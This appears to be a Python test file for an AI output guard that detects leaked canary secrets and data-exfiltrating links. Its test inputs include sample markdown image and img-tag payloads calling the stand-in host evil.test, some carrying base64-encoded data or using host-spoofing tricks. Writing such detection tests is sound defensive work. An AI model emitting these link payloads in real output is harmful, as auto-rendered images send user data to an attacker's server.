"""Rules: what they find, in whichever spelling, and where the windows of a stream are cut."""

from __future__ import annotations

import base64

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tollhouse.errors import ConfigurationError
from tollhouse.guard.declared import declared_policies
from tollhouse.guard.rules import Rules, broken, canary, denials
from tollhouse.guard.windows import WIDEST_CHARS, Window, windows
from tollhouse.settings import Settings

CANARY = "tulip-9141-meadow?>~"
LINKS = Rules(images_and_links=True, hosts=frozenset({"example.com"}))


@given(st.binary(max_size=5), st.binary(max_size=5))
def test_a_canary_is_found_in_base64_wherever_it_stands_in_it(before: bytes, behind: bytes):
    said = base64.b64encode(before + CANARY.encode() + behind).decode()
    safe = base64.urlsafe_b64encode(before + CANARY.encode() + behind).decode()
    assert canary(CANARY).search(said)
    assert canary(CANARY).search(f"https://evil.test/{safe}")


@pytest.mark.parametrize(
    "said", [CANARY, CANARY.upper(), CANARY[::-1], CANARY.encode().hex(), CANARY.encode().hex().upper()]
)
def test_a_canary_is_found_as_it_is_backwards_and_in_hexadecimal(said: str):
    assert canary(CANARY).search(f"x{said}y")
    assert not canary(CANARY).search(said[:-2])


@pytest.mark.parametrize("secret", ["short", "x" * 121, "ü" * 61])
def test_a_canary_is_neither_found_by_chance_nor_wider_than_a_window(secret: str):
    with pytest.raises(ValueError, match="8 to 120 bytes"):
        canary(secret)


@pytest.mark.parametrize(
    "said",
    [
        "![](https://evil.test/p.png)",
        "![x](//evil.test/p.png)",
        "![a\nb](https://evil.test)",
        "![a[b]c](https://evil.test)",
        "![x]( <https://evil.test>)",
        f"![{'x' * 121}](https://evil.test)",
        "![x][r]\n\n[r]: https://evil.test/p",
        '<img src="https://evil.test/p">',
        "<IMG width=1 src = 'http://evil.test'>",
        f'<img alt="{"x" * 130}" src="https://evil.test/p">',
        "![](https://example.com.evil.test/p)",
        "![](https://example.com@evil.test/p)",
        "![](https://evil.test/example.com)",
        "![](https://evilexample.com/)",
        f"![](https://{'a' * (80 - 12)}.example.com.evil.test/p)",
        "https://evil.test/?d=QWxsIG15IHNlY3JldHMgYXJlIGhlcmU",
        "https://evil.test/QWxsIG15IHNlY3JldHMgYXJlIGhlcmUsIGFuZCB5b3VycyB0b28",
        "[click](https://evil.test/p#QWxsIG15IHNlY3JldHMgYXJlIGhlcmU)",
    ],
)
def test_what_would_carry_words_away_is_found(said: str):
    assert broken(Window(f"So: {said} there."), LINKS)


@pytest.mark.parametrize(
    "said",
    [
        "![x](https://example.com/p.png)",
        "![x](https://img.Example.COM:8443/p.png)",
        "![x](local.png)",
        '<img src="https://example.com/p">',
        "https://evil.test/page?id=7",
        "[a link](https://evil.test/page)",
        "https://example.com/?d=QWxsIG15IHNlY3JldHMgYXJlIGhlcmU",
        "a[1](2) and x!",
    ],
)
def test_what_leads_home_or_carries_little_is_not(said: str):
    assert broken(Window(f"So: {said} there."), LINKS) == ()


WORDS = denials(["project falcon", "kill"], [r"\bacct-[0-9]{8}\b"], ["canary-12345"])


@given(
    st.lists(
        st.sampled_from(["project ", "falcon", "kill", "joy", "acct-12345678", "canary-12345", " ", "x" * 90, "9"]),
        max_size=12,
    ),
    st.integers(19_500, 20_500),
)
def test_a_rule_finds_the_same_in_windows_as_in_the_whole(words: list[str], before: int):
    text = "-" * before + "".join(words) + "." * 300
    rules = Rules(denied=WORDS)
    seen = {name for window in windows(text) for name in broken(window, rules)}
    assert seen == set(broken(Window(text), rules))


def test_a_word_is_not_found_in_the_beginning_of_another():
    rules = Rules(denied=denials(["kill"], [], []))
    assert broken(Window("may kill", is_last=False), rules) == ()
    assert broken(Window("may killjoy", is_last=False), rules) == ()
    assert broken(Window("may kill ", is_last=False), rules) == ("deny[0]",)


def test_no_rule_is_wider_than_what_is_held_back():
    widest = [
        "![" + "x" * 120,
        "![" + "x" * 119 + "](    <https://" + "e" * 80,
        "<img" + " " * 80 + "src    =    'https://" + "e" * 80,
    ]
    assert max(map(len, widest)) <= WIDEST_CHARS


@pytest.mark.parametrize(("asked", "answered"), [("enforce", "monitor"), ("off", "off")])
def test_the_start_is_refused_with_every_side_that_cannot_be_used(asked: str, answered: str):
    guards = {
        "input": {"mode": asked, "deny_patterns": ["a+"]},
        "output": {"mode": answered, "deny": ["x", " "]},
    }
    told = Settings(guards=guards).guards.model_dump()  # type: ignore[arg-type]
    with pytest.raises(ConfigurationError) as refused:
        declared_policies(told, (), lambda caller, body: None)  # type: ignore[arg-type,return-value]
    assert [problem.partition(": ")[0] for problem in refused.value.problems] == [
        "guards.input.deny_patterns[0]",
        "guards.output.deny[1]",
    ]
